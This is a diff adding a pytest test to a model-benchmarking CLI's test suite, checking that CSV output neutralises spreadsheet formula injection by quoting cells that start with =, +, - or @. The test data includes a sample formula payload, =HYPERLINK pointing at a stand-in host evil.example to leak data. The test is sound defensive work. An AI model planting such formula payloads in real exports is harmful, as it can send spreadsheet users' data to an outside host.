@@ -316,6 +316,23 @@ def test_a_ray_address_where_nothing_listens_is_one_quick_line(sweep_dir, addres
     assert time.monotonic() - started < 20 and not (sweep_dir / "out").exists()
 
 
+# ---------------------------------------------------------------- CSV
+
+
+def test_bench_csv_cells_a_spreadsheet_would_run_are_text(tmp_path):
+    """A label or model name starting with =, +, -, @ is a formula to a spreadsheet: written with a leading quote."""
+    import csv
+
+    mlp(tmp_path / "@m.onnx")
+    label = '=HYPERLINK("http://evil.example/?leak")'
+    result = run_main("bench", "@m.onnx", "--label", label, "-n", "2", "--duration", "0", "--warmup", "1", "--csv", "out.csv", "-q", cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    (row,) = list(csv.DictReader((tmp_path / "out.csv").read_text().splitlines()))
+    assert row["model_label"] == "'" + label and row["model"] == "'@m.onnx"
+    assert not [cell for cell in row.values() if cell[:1] in ("=", "+", "@")]
+    assert float(row["median_ms"]) > 0  # numbers stay numbers
+
+
 # ---------------------------------------------------------------- plug-ins
 
 BACKEND = '''
